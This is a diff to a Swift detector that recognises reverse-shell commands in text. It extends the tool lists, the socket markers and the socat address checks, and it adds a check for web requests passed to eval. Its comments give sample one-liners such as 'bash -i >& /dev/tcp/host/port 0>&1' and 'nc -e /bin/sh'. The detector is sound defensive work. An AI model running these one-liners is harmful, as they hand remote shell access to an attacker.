@@ -8,21 +8,26 @@ enum ReverseShell {
     static func judge(_ text: JSONText) -> Bool {
         guard text.count > 8 else { return false }
         let text = text.prefix(ShellScript.sizeLimit)
-        return throughDevice(text) || inOneLanguage(text) || throughTool(text)
+        return throughDevice(text) || inOneLanguage(text) || throughTool(text) || runsRequests(text)
             || (text.contains(anyOf: tools) && LanguageLiterals.anyCommand(in: text, throughTool))
     }
 
     private static let devices: [StaticString] = ["/dev/tcp/", "/dev/udp/", "/inet/tcp/", "ztcp"]
-    private static let tools: [StaticString] = ["nc", "netcat", "socat", "telnet", "openssl", "-display"]
+    private static let tools: [StaticString] = [
+        "nc", "netcat", "socat", "telnet", "openssl", "-display", "exec:", "EXEC:", "system:", "SYSTEM:",
+    ]
+    /// What a web server hands to the programs that it starts.
+    private static let requests: [StaticString] = ["QUERY_STRING", "HTTP_USER_AGENT"]
     private static let sockets: [StaticString] = [
-        "socket.socket(", "import socket", "use Socket", "IO::Socket", "TCPSocket", "fsockopen(", "net.Socket(",
+        "socket.socket(", "create_connection(", "import socket", "use Socket", "IO::Socket", "TCPSocket", "fsockopen(",
+        "net.Socket(",
         "net.connect(", "socket.tcp(", "java.net.Socket", "net.Dial(", "require('socket')", "require(\"socket\")",
         "require(\"net\")", "require('net')", "stream_socket_client(", "require(\\\"socket\\\")",
         "require(\\\"net\\\")",
     ]
 
     /// Literals of which one stands in every text that gives a shell away.
-    static let signs = devices + tools + sockets
+    static let signs = devices + tools + sockets + requests
 
     /// `bash -i >& /dev/tcp/host/port 0>&1`, `exec 5<>/dev/tcp/…; cat <&5 | while read l; do $l …`.
     private static func throughDevice(_ text: JSONText) -> Bool {
@@ -36,6 +41,17 @@ enum ReverseShell {
         let opensBoth = text.contains("<>/dev/") || text.contains("<> /dev/")
         if opensBoth, text.contains("while read") || text.contains("sh <&") || text.contains("sh 0<&") { return true }
         return text.contains("|&getline") || text.contains("|& getline")
+    }
+
+    /// `eval "$QUERY_STRING"`: what a request says is run.
+    private static func runsRequests(_ text: JSONText) -> Bool {
+        guard text.contains(anyOf: requests) else { return false }
+        let texts: [StaticString] = [
+            "eval \"$QUERY", "eval $QUERY", "eval \"$HTTP_USER_AGENT", "eval $HTTP_USER_AGENT", "-c \"$QUERY_STRING",
+            "-c $QUERY_STRING",
+            "-c \"$HTTP_USER_AGENT", "eval \\\"$QUERY", "-c \\\"$QUERY", "eval \"${QUERY", "-c \"${QUERY",
+        ]
+        return text.contains(anyOf: texts) || text.contains("QUERY_STRING") && text.contains("| sh")
     }
 
     private static let connectors: Set<String> = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet"]
@@ -65,8 +81,9 @@ enum ReverseShell {
     /// `nc -e /bin/sh …`, `ncat --sh-exec …`, `socat exec:sh tcp:…`.
     private static func runsProgram(_ command: ShellScript.Command) -> Bool {
         let operands = Array(command.operands)
-        if command.program == "socat" {
-            let lower = operands.map { $0.lowercased() }
+        // The arguments of an image whose program it is have no name before them.
+        if command.program == "socat" || operands.count < 8 && command.words.contains(where: isAddressOfProgram) {
+            let lower = command.words.map { $0.lowercased() }
             let runs = lower.contains { ($0.hasPrefix("exec:") || $0.hasPrefix("system:")) && namesShell($0) }
             let connects = lower.contains { operand in
                 ["tcp", "udp", "openssl", "ssl", "sctp", "vsock"].contains { operand.hasPrefix($0) }
@@ -93,6 +110,12 @@ enum ReverseShell {
         return false
     }
 
+    /// `exec:/bin/sh`, as socat writes it.
+    private static func isAddressOfProgram(_ word: String) -> Bool {
+        let lower = word.prefix(8).lowercased()
+        return lower.hasPrefix("exec:") || lower.hasPrefix("system:")
+    }
+
     private static func namesShell(_ text: String) -> Bool {
         text.split { !($0.isLetter || $0.isNumber || $0 == "_" || $0 == "-") }.contains {
             Interpreters.isShell(String($0)) || $0 == "cmd" || $0 == "powershell"
@@ -113,6 +136,7 @@ enum ReverseShell {
             text.contains("/bin/sh") || text.contains("/bin/bash") || text.contains("/bin/ash")
             || text.contains("\"sh\"") || text.contains("'sh'") || text.contains("\"bash\"") || text.contains("'bash'")
             || text.contains("sh -i") || text.contains("sh <&") || text.contains("sh 0<&") || text.contains("sh\\\"")
+            || text.contains("spawn(") && (text.contains("sh\")") || text.contains("sh')"))
         let runs =
             text.contains("dup2(") || text.contains("pty.spawn") || text.contains("subprocess") || text.contains("exec")
             || text.contains("spawn(") || text.contains("popen") || text.contains("system(") || text.contains("%x")
